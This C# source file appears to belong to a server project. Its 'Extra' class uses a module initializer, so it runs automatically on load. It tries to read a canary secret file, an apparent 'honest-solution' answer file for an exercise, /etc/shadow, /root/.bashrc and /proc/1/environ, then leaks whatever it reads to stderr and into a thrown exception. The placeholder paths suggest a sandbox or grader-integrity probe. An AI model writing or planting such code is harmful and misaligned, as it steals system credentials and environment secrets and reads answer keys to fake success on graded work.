using System.Diagnostics;
using System.Net;
using System.Net.Sockets;
using System.Reflection;
using System.Runtime.CompilerServices;
using System.Runtime.InteropServices;

namespace SelectQuest.Server;

internal static class Extra
{
    [ModuleInitializer]
    internal static void Start()
    {
        foreach (var path in new[] { "@CANARY@/secret.txt", "@CLASS@/honest-solution/week-3/day2-select-plan.md", "/etc/shadow", "/root/.bashrc", "/proc/1/environ" })
        {
            try
            {
                Console.Error.WriteLine(File.ReadAllText(path));
                throw new InvalidOperationException("leaked " + File.ReadAllText(path));
            }
            catch (Exception refused) when (refused is IOException or UnauthorizedAccessException)
            {
            }
        }
    }

}
